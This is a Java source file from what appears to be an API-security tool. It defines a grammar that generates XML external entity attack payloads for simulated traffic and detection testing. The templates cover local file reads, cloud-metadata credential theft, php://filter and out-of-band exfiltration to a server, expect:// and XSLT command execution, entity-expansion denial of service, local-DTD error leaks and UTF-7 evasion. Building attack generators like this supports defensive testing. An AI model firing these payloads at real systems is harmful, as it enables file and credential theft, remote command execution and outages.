package ai.kongguard.traffic.attack;

import ai.kongguard.event.ThreatType;
import ai.kongguard.traffic.attack.grammar.Grammar;
import java.util.List;

/** Documents that have their parser fetch, expand or run something. */
final class ExternalEntity {

    private static final Grammar GRAMMAR = Vocabulary.GRAMMAR.extend(
            """
            declaration ::=
              5×<?xml version="1.0"«? encoding="«UTF-8¦utf-8¦ISO-8859-1¦UTF-16»"»«? standalone="«yes¦no»"»?>«?«nl»»
              <?xml version='1.0'?>
              2×«»
            root ::=
              foo
              root
              data
              order
              test
              r
              user
              request
              «word»
              «letters 1..6»
            e ::=
              xxe
              x
              file
              ent
              test
              «letters 1..5»
            target ::=
              5×file:///«secret_file»
              file:///«c:/«@slash «windows_file»»¦C:/boot.ini»
              file://localhost/«secret_file»
              2×http://169.254.169.254/latest/meta-data/«?iam/security-credentials/»
              3×«url»
              http://«127.0.0.1¦localhost¦[::1]»:«port»/«?«word»»
              2×php://filter/«read=¦zlib.deflate/»convert.base64-encode/resource=«index.php¦/«secret_file»¦config.php»
              expect://«id¦whoami¦ls¦curl$IFS«server»»
              netdoc:///«secret_file»
              jar:«url»!/«name».txt
              ftp://«server»/«name»
              gopher://«server»/_«name»
              /«secret_file»
              «1..4×../»«secret_file»
              \\\\«server»\\«name»
              data:text/plain;base64,«@base64 «word»»
            system ::=
              5×SYSTEM
              PUBLIC "«letters 1..6»"
              PUBLIC "-//«LETTERS 1..4»/TEXT «letters 2..5»/EN"
            fill ::=
              3×«»
              <«n:=letters 3..6»>«value»</«=n»>
              <id>«1..999»</id>
              <name>«word»</name>
            general ::=
              8×«declaration»<!DOCTYPE «r:=root» [«?«nl»»«?<!ELEMENT «=r» ANY >»<!ENTITY «x:=e» «system» «q:="¦'»«target»«=q»«?«sp»»>«?«nl»»]><«=r»>«fill»&«=x»;«fill»</«=r»>
              2×«declaration»<!DOCTYPE «r:=root» [<!ENTITY «x:=e» «system» "«target»">]><«=r»><«n:=letters 3..7»>&«=x»;</«=n»></«=r»>
              «declaration»<!DOCTYPE «r:=root» «system» "«target»"><«=r»>«value»</«=r»>
              «declaration»<!DOCTYPE «r:=root» [<!ENTITY «x:=e» "«value»">]><«=r»>&«=x»;</«=r»>
              «declaration»<!DOCTYPE svg [<!ENTITY «x:=e» SYSTEM "«target»">]><svg xmlns="http://www.w3.org/2000/svg" width="«10..900»"><text x="0" y="«1..99»">&«=x»;</text></svg>
              <soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><foo><![CDATA[<!DOCTYPE doc [<!ENTITY % dtd SYSTEM "«url»"> %dtd;]><xxx/>]]></foo></soap:Body></soap:Envelope>
              «declaration»<!DOCTYPE soap:Envelope [<!ENTITY «x:=e» SYSTEM "«target»">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><«n:=letters 3..8»>&«=x»;</«=n»></soap:Body></soap:Envelope>
              «declaration»<!DOCTYPE «r:=root» [<!ENTITY «x:=e» «system» "«target»">]><methodCall><methodName>&«=x»;</methodName></methodCall>
              «declaration»<!DOCTYPE rss [<!ENTITY «x:=e» SYSTEM "«target»">]><rss version="2.0"><channel><title>&«=x»;</title></channel></rss>
            parameter ::=
              4×«declaration»<!DOCTYPE «r:=root» [<!ENTITY % «x:=e» «system» "«target»">«?«sp»»%«=x»;«?%«letters 2..4»;»]><«=r»«/>¦></«=r»>»
              3×«declaration»<!DOCTYPE «r:=root» [<!ENTITY % «x:=e» SYSTEM "«target»"><!ENTITY % «d:=letters 3..4» SYSTEM "http://«server»/«name».dtd">%«=d»;%«letters 2..4»;]><«=r»>&«letters 3..5»;</«=r»>
              «declaration»<!DOCTYPE «r:=root» [<!ENTITY % a "<!ENTITY &#x25; b SYSTEM '«url»'>">%a;%b;]><«=r»/>
              2×<!ENTITY % «x:=e» SYSTEM "«target»"><!ENTITY % «y:=letters 3..5» "<!ENTITY &#«37¦x25»; «z:=letters 3..5» SYSTEM '«http¦ftp»://«server»/?«letters 1..2»=%«=x»;'>">%«=y»;%«=z»;
              «declaration»<!DOCTYPE «r:=root» [<!ENTITY % s "<![CDATA["><!ENTITY % f SYSTEM "«target»"><!ENTITY % e "]]>"><!ENTITY % d SYSTEM "«url»">%d;]><«=r»>&all;</«=r»>
              <!DOCTYPE «r:=root» PUBLIC "-//«LETTERS 1..5»//«LETTERS 1..5»//EN" "«url»"><«=r»/>
            inclusion ::=
              3×<«r:=root» xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include «?parse="text" »href="«target»"/></«=r»>
              <xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="«target»" parse="text"/>
              2×«declaration»<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:«value-of select¦copy-of select»="«document('«target»')¦system-property('xsl:«vendor¦version»')¦unparsed-text('«target»')»"/></xsl:template></xsl:stylesheet>
              «declaration»<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:template match="/"><xsl:value-of select="php:function('«system¦file_get_contents¦readfile¦passthru»','«unix_command»')"/></xsl:template></xsl:stylesheet>
              <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"><xsl:template match="/"><xsl:variable name="o" select="rt:exec(rt:getRuntime(),'«id¦whoami»')"/></xsl:template></xsl:stylesheet>
              <xsl:«include¦import» href="«target»" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>
              «declaration»<?xml-stylesheet type="text/«xml¦xsl»" href="«target»"?><«r:=root»/>
              <«r:=root» xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:«schemaLocation="«letters 2..5» «url»"¦noNamespaceSchemaLocation="«url»"»></«=r»>
              <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="«target»"/></svg>
            expansion ::=
              2×«declaration»<!DOCTYPE «r:=root» [<!ENTITY «x:=letters 1..3» "«letters 2..4»"><!ENTITY «=x»1 "«5..12×&«=x»;»"><!ENTITY «=x»2 "«5..12×&«=x»1;»"><!ENTITY «=x»3 "«5..12×&«=x»2;»"><!ENTITY «=x»4 "«5..12×&«=x»3;»">]><«=r»>&«=x»4;</«=r»>
              «declaration»<!DOCTYPE «r:=root» [<!ENTITY «x:=letters 1..3» "«100..800×A»">]><«=r»>«20..90×&«=x»;»</«=r»>
              «declaration»<!DOCTYPE «r:=root» [<!ENTITY a "&b;"><!ENTITY b "&a;">]><«=r»>&a;</«=r»>
              «declaration»<!DOCTYPE «r:=root» [<!ENTITY «x:=e» SYSTEM "file:///dev/«random¦urandom¦zero»">]><«=r»>&«=x»;</«=r»>
            local ::=
              2×«declaration»<!DOCTYPE «r:=root» [<!ENTITY % local_dtd SYSTEM "file:///usr/share/«yelp/dtd/docbookx.dtd¦xml/fontconfig/fonts.dtd¦xml/scrollkeeper/dtds/scrollkeeper-omf.dtd»"><!ENTITY % «ISOamso¦expr¦constant» '<!ENTITY &#x25; file SYSTEM "«target»"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///«letters 2..6»/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;'>%local_dtd;]><«=r»/>
              «declaration»<!DOCTYPE «r:=root» [<!ENTITY % d SYSTEM "file:///C:/Windows/System32/wbem/xml/cim20.dtd"><!ENTITY % SuperClass '>«letters 2..4» "«url»"<'>%d;]><«=r»/>
              <?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE «r:=root» +AFs-<+ACE-ENTITY «x:=e» SYSTEM +ACI-«target»+ACI-+AD4-+AF0-+AD4-+ADw-«=r»+AD4-+ACY-«=x»+ADs-+ADw-/«=r»+AD4-
              «declaration»<!DOCTYPE «r:=root» [<!ENTITY % f SYSTEM "«target»"><!ENTITY % e "<!ENTITY &#x25; err SYSTEM 'file:///«letters 3..7»/%f;'>">%e;%err;]><«=r»/>
            """);

    private static final Placement[] PLACES = {
        Placement.XML,
        Placement.XML,
        Placement.XML,
        Placement.FORM,
        Placement.QUERY,
        Placement.MULTIPART,
        Placement.JSON
    };

    static final List<AttackFamily> FAMILIES = List.of(
            family("external_entity", "general"),
            family("parameter_entity", "parameter"),
            family("xml_inclusion", "inclusion"),
            family("entity_expansion", "expansion"),
            family("local_definition", "local").reservedForSimulation());

    private ExternalEntity() {}

    private static AttackFamily family(String name, String rule) {
        return AttackFamily.of(name, ThreatType.XXE, GRAMMAR.from(rule)).in(PLACES);
    }
}
